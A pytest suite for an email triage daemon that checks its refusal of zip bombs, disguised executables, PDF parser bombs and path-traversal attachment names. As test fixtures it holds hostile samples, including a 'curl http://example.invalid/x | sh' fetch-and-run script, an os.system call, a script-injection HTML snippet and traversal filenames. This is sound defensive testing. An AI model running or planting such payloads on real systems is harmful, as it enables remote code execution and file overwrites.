"""Issue #6, the files a mail carries: bombs are refused fast with the reason, programs are never documents and
never stored runnable, parsers of hostile documents run under limits, and no name escapes the storage folder."""

from __future__ import annotations

import io
import os
import re
import sys
import tracemalloc
import unicodedata
import zipfile
from pathlib import Path

import pytest

from inbox_bot.core.limits import ArchiveLimits, ExtractionLimits, Limits
from inbox_bot.core.models import Verdict
from inbox_bot.core.reasons import Reason, load
from inbox_bot.daemon.recording import record_mail
from inbox_bot.sources.files import raw_mail
from inbox_bot.storage.store import Store
from inbox_bot.triage import attachments, sandbox
from inbox_bot.triage.attachments import read_attachments
from inbox_bot.triage.pipeline import MemoryHistory, Pipeline, Triaged
from inbox_bot.triage.sandbox import Sandbox
from tests import hostile
from tests.docmakers import make_docx, make_odt, make_pdf, make_zip
from tests.values import RULES, english

MB = 1024 * 1024
CV = make_pdf(["Curriculum vitae", "Expérience professionnelle"])
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
PE = b"MZ\x90\x00\x03" + bytes(59) + b"This program cannot be run in DOS mode.\r\n" + bytes(200)
PE = PE[:0x3C] + (0x80).to_bytes(4, "little") + PE[0x40:0x80] + b"PE\x00\x00" + bytes(100)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
PYTHON = b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)


def triage(raw: bytes, pipeline: Pipeline | None = None) -> Triaged:
    return (pipeline or Pipeline(RULES)).triage(raw_mail("hostile.eml", raw), MemoryHistory())


def review_reasons(triaged: Triaged) -> list[str]:
    assert triaged.result.call == "alci-guide-2024", "the test mail must reach the decision, not stop at matching"
    assert triaged.result.verdict is Verdict.NEEDS_REVIEW, triaged.result.reasons
    return english(triaged.result.reasons)


def said(problem: Reason | None) -> str:
    """A file's problem as the log reads it, without the file's name."""
    assert problem is not None
    return english([problem.with_file("x")])[0].removeprefix("x: ")


@pytest.fixture(scope="module")
def gigabyte_of_zeros() -> bytes:
    return hostile.raw_zip([hostile.zeros_entry(b"zeros.txt", 1024 * MB)])


# ---------------------------------------------------------------- archives


def test_a_member_of_one_gigabyte_of_zeros_is_refused_before_inflating(gigabyte_of_zeros: bytes) -> None:
    triaged = triage(hostile.application((b"dossier.zip", gigabyte_of_zeros)))
    assert "dossier.zip: archive refused: compression ratio 1011:1 over limit 100" in review_reasons(triaged)


def test_the_count_of_real_bytes_stops_the_gigabyte_when_declared_sizes_are_not_checked(
    gigabyte_of_zeros: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(attachments, "_check_declared", lambda infos, limits, budget: None)
    tracemalloc.start()
    (refused,) = read_attachments([("dossier.zip", gigabyte_of_zeros)])
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert said(refused.problem) == "archive refused: 'zeros.txt' unpacks to over 50 MB"
    assert peak < 64 * MB  # inflating stopped at the member limit, far from the gigabyte


def test_a_42_zip_style_nested_bomb_is_refused_by_its_depth(gigabyte_of_zeros: bytes) -> None:
    bomb = hostile.nested_bomb(gigabyte_of_zeros, levels=4)  # 16^4 gigabytes in about 20 KB
    assert len(bomb) < 100_000
    reasons = review_reasons(triage(hostile.application((b"42.zip", bomb))))
    assert "42.zip: archive refused: archives nested 3 deep, limit 2" in reasons
    # allowed deeper, it is stopped by the compression ratio; allowed any ratio, by what a file inflates to
    (deep,) = read_attachments([("42.zip", bomb)], ArchiveLimits(max_depth=5))
    assert said(deep.problem) == "archive refused: compression ratio 417:1 over limit 100"
    (deeper,) = read_attachments([("42.zip", bomb)], ArchiveLimits(max_depth=5, max_ratio=1_000_000))
    assert said(deeper.problem) == "archive refused: 'zeros.txt' unpacks to over 50 MB"


def test_overlapping_entries_are_refused_though_zipfile_in_python_3_11_7_reads_them() -> None:
    bomb = hostile.overlapping_zip(bytes(range(256)) * 4096, 150)  # 150 "files" of 1 MB from one 1 MB stream
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        if sys.version_info < (3, 11, 8):  # the standard library's own check came in 3.11.8
            assert len(archive.read(archive.infolist()[-1])) == MB
    reasons = review_reasons(triage(hostile.application((b"dossier.zip", bomb))))
    assert "dossier.zip: archive refused: overlapping entries (a zip bomb trick)" in reasons


def test_overlapping_entries_are_bounded_by_the_bytes_counted_when_every_other_check_is_off(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(attachments, "_check_layout", lambda infos: None)
    monkeypatch.setattr(attachments, "_check_declared", lambda infos, limits, budget: None)
    bomb = hostile.overlapping_zip(bytes(range(256)) * 4096, 150)
    tracemalloc.start()
    (refused,) = read_attachments([("dossier.zip", bomb)], ArchiveLimits(max_total_uncompressed_mb=20))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert said(refused.problem) == "archive refused: over 20 MB uncompressed"
    assert peak < 40 * MB


def test_an_archive_directory_too_large_to_read_is_refused_before_zipfile_reads_it() -> None:
    entries = [hostile.stored_entry(b"", b"")] * 50_000
    (refused,) = read_attachments([("scans.zip", hostile.raw_zip(entries))])
    assert refused.problem is not None
    assert said(refused.problem).startswith("archive refused: archive directory of 2246 KB over limit 2048 KB")


def test_an_encrypted_archive_needs_review() -> None:
    from tests.docmakers import set_encrypted_flag

    locked = set_encrypted_flag(make_zip({"CV.pdf": CV}))
    reasons = review_reasons(triage(hostile.application((b"dossier.zip", locked))))
    assert "dossier.zip: archive refused: encrypted archive" in reasons


# ---------------------------------------------------------------- programs never pass for documents


def test_programs_named_like_documents_are_refused_and_stored_inert(tmp_path: Path, store: Store) -> None:
    raw = hostile.application((b"CV.pdf", ELF), (b"offre.docx", PE), (b"note.pdf", SCRIPT), (b"lettre.docx", PYTHON))
    triaged = record_mail(Pipeline(RULES), store, raw_mail("programs.eml", raw))
    assert triaged is not None
    review_reasons(triaged)
    documents = store.documents(1)
    assert [d["kind"] for d in documents] == ["other"] * 4
    assert all(said(load(d["problem"])).startswith("named .") for d in documents)
    assert all("executable" in load(d["problem"]).params["real"] for d in documents)
    assert not any(d["safe_name"].endswith((".pdf", ".docx")) for d in documents)
    for document in documents:
        path = tmp_path / "storage" / document["path"]
        assert path.name == document["sha256"], "stored under its hash, with no extension"
        assert path.stat().st_mode & 0o777 == 0o600, "never executable, readable by the daemon alone"


def test_password_protected_pdf_and_word_files_need_review() -> None:
    locked_pdf = make_pdf(["Curriculum vitae"], encrypt_password="secret")
    reasons = review_reasons(triage(hostile.application((b"CV.pdf", locked_pdf), (b"Offre.docx", OLE))))
    assert "CV.pdf: password-protected" in reasons
    assert "Offre.docx: password-protected or legacy Word file" in reasons


# ---------------------------------------------------------------- type: extension, libmagic and structure agree


@pytest.mark.parametrize(("name", "data", "problem"), [
    (b"Offre.pdf", b"<html><body>\n%PDF-1.7 <script>alert(1)</script></body></html>",
     "named .pdf but content is text/html"),
    (b"CV.docx", make_zip({"word/other.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}),
     "named .docx but content is application/zip"),
    (b"note.odt", make_zip({"content.xml": b"<x/>", "mimetype": b"application/vnd.oasis.opendocument.text"}),
     "named .odt but content is application/zip"),
])
def test_extension_detected_type_and_structure_must_agree(name: bytes, data: bytes, problem: str) -> None:
    triaged = triage(hostile.application((name, data)))
    assert f"{name.decode()}: {problem}" in review_reasons(triaged)
    (attachment,) = triaged.attachments
    assert not attachment.safe_name.endswith(name.decode().rsplit(".", 1)[1])


def test_documents_with_the_right_structure_are_read() -> None:
    found = read_attachments([("note.odt", make_odt(["Note méthodologique"])), ("CV.docx", make_docx(["CV"]))])
    assert [(a.problem, a.text) for a in found] == [(None, "Note méthodologique"), (None, "CV")]


# ---------------------------------------------------------------- parsers under limits, in the worker


def test_a_pdf_that_inflates_to_a_gigabyte_is_stopped() -> None:
    # pypdf's own decompression limit stops it (the reason says so), long before the worker's memory or time
    # limits would; how fast that is on this machine is measured in docs/security.md, not asserted here.
    reasons = review_reasons(triage(hostile.application((b"CV.pdf", hostile.pdf_decompression_bomb()))))
    assert any(r.startswith("CV.pdf: corrupt or unreadable PDF: Limit reached while decompressing") for r in reasons)


def test_a_pdf_slow_to_parse_is_stopped_by_the_time_limit_and_the_next_file_is_read() -> None:
    pipeline = Pipeline(RULES, Limits(extraction=ExtractionLimits(timeout_s=1)))
    reasons = review_reasons(triage(hostile.application((b"CV.pdf", hostile.pdf_slow_to_read())), pipeline))
    assert any(re.match(r"CV\.pdf: text extraction stopped: over the (CPU )?time limit", r) for r in reasons), reasons
    after = triage(hostile.application((b"CV.pdf", CV)), pipeline)
    assert after.result.verdict is Verdict.INCOMPLETE, "a fresh worker reads the next mail"


def test_a_pdf_that_needs_too_much_memory_is_stopped_by_the_memory_limit() -> None:
    pipeline = Pipeline(RULES, Limits(extraction=ExtractionLimits(memory_mb=256)))
    reasons = review_reasons(triage(hostile.application((b"CV.pdf", hostile.pdf_memory_bomb())), pipeline))
    assert "CV.pdf: corrupt or unreadable PDF: memory limit reached" in reasons
    assert triage(hostile.application((b"CV.pdf", CV)), pipeline).result.verdict is Verdict.INCOMPLETE


def test_many_slow_files_cannot_hold_the_daemon_longer_than_the_mail_budget() -> None:
    pipeline = Pipeline(RULES, Limits(extraction=ExtractionLimits(timeout_s=5, mail_budget_s=1)))
    slow = hostile.pdf_slow_to_read()
    reasons = review_reasons(triage(hostile.application(*[(b"CV%d.pdf" % i, slow) for i in range(4)]), pipeline))
    spent = [r for r in reasons if r.endswith("the time for reading this mail's files is spent")]
    assert len(spent) >= 2


def test_a_dead_worker_is_replaced() -> None:
    reader = Sandbox(ExtractionLimits())
    try:
        assert reader.extract("text", b"one").text == "one"
        assert reader._worker is not None
        reader._worker.kill()
        reader._worker.wait()
        assert reader.extract("text", b"two").text == "two"
    finally:
        reader.close()


def test_the_worker_serves_many_files_even_when_started_by_a_large_daemon() -> None:
    # Linux keeps ru_maxrss across execve: judged by it, a worker started by a large process would be
    # "too large" at birth and replaced after every file (the benchmark then ran 40 times slower)
    ballast = b"\x01" * (200 * MB)  # written, so resident: the process that starts the worker is large
    reader = Sandbox(ExtractionLimits(memory_mb=256))
    try:
        pids = set()
        for _ in range(3):
            assert reader.extract("pdf", CV).problem is None
            assert reader._worker is not None
            pids.add(reader._worker.pid)
        assert len(pids) == 1
    finally:
        reader.close()
        del ballast


@pytest.mark.parametrize("answer", [b"not json", b"[1, 2]", b'{"text": 5, "pages": "x", "problem": null}'])
def test_what_the_worker_answers_is_checked_as_input(answer: bytes) -> None:
    try:
        extracted, _ = sandbox._decode(answer)
    except sandbox.WorkerLost as lost:
        assert str(lost) == "text extraction stopped: the worker sent an unreadable answer"
    else:
        assert (extracted.text, extracted.pages) == ("5", None)


# ---------------------------------------------------------------- names never escape the storage folder

HOSTILE_NAMES = [
    b'filename="../../../../etc/passwd.pdf"',
    b'filename="/var/lib/inbox-bot/storage/../../evil.pdf"',
    b'filename="C:\\\\Windows\\\\System32\\\\evil.pdf"',
    b'filename="a\x00b.pdf"',
    b'filename*=utf-8\'\'%1B%5B31mred%07%0D%0A.pdf',
    b'filename="CON.pdf"',
    b'filename="aux"',
    b'filename="' + b"x" * 1000 + b'.pdf"',
    b"filename*=utf-8''..%2F..%2Frfc2231.pdf",
    b"filename*0*=utf-8''%2E%2E%2F; filename*1*=%2E%2E%2Fcontinued.pdf",
    b'filename="innocent.pdf"; filename*=utf-8\'\'..%2F..%2Fevil.exe',
    b'filename="=?utf-8?b?Li4vLi4vZW5jb2RlZC5wZGY=?="',
    b"filename*=utf-8''cv%E2%80%AEfdp.exe",
    b"filename*=x-unknown''%FF%FE.pdf",
]


def test_hostile_names_are_stored_under_safe_names_inside_the_storage_folder(tmp_path: Path, store: Store) -> None:
    parts = [hostile.text_part()] + [
        hostile.part(make_pdf([f"Document {i}"]), disposition=b"attachment; " + name, content_type=b"application/pdf")
        for i, name in enumerate(HOSTILE_NAMES)
    ]
    raw = hostile.head() + hostile.multipart(parts)
    triaged = record_mail(Pipeline(RULES), store, raw_mail("names.eml", raw))
    assert triaged is not None and len(triaged.attachments) == len(HOSTILE_NAMES)
    documents = store.documents(1)
    assert len(documents) == len(HOSTILE_NAMES)
    for document in documents:
        assert_safe(document["safe_name"])
        assert document["path"] == f"files/{document['sha256'][:2]}/{document['sha256']}"
    kept_as_data = {"../../../../etc/passwd.pdf", "../../rfc2231.pdf", "../../encoded.pdf"}
    assert kept_as_data <= {d["filename"] for d in documents}
    storage = (tmp_path / "storage").resolve()
    everything = [p for p in tmp_path.rglob("*") if p.is_file()]
    outside = [p for p in everything if not p.resolve().is_relative_to(storage)]
    assert {p.name for p in outside} <= {"db.sqlite", "db.sqlite-wal", "db.sqlite-shm"}
    assert all(re.fullmatch(r"[0-9a-f]{64}", p.name) for p in everything if p not in outside)
    assert not any(p.name.startswith(".incoming-") for p in everything), "no temporary file left behind"
    assert not any((tmp_path.parent / n).exists() for n in ("evil.pdf", "passwd.pdf", "rfc2231.pdf"))


def assert_safe(name: str) -> None:
    assert 0 < len(name) <= 120 and len(name.encode()) <= 255
    assert "/" not in name and "\\" not in name and ".." not in name and "\x00" not in name
    assert not any(unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp") for char in name)
    stem, _, extension = name.rpartition(".")
    assert stem.upper() not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT1"}
    assert extension not in {"exe", "bat", "cmd", "com", "scr", "js", "vbs", "sh", "ps1"}


def test_put_file_writes_by_hash_without_extension_and_never_executable(tmp_path: Path, store: Store) -> None:
    os.umask(0o002)  # a permissive umask must not leak into the stored file's mode
    relative = store.put_file("files", "ab" * 32, ELF)
    path = tmp_path / "storage" / relative
    assert (relative, path.read_bytes(), path.stat().st_mode & 0o777) == (f"files/ab/{'ab' * 32}", ELF, 0o600)
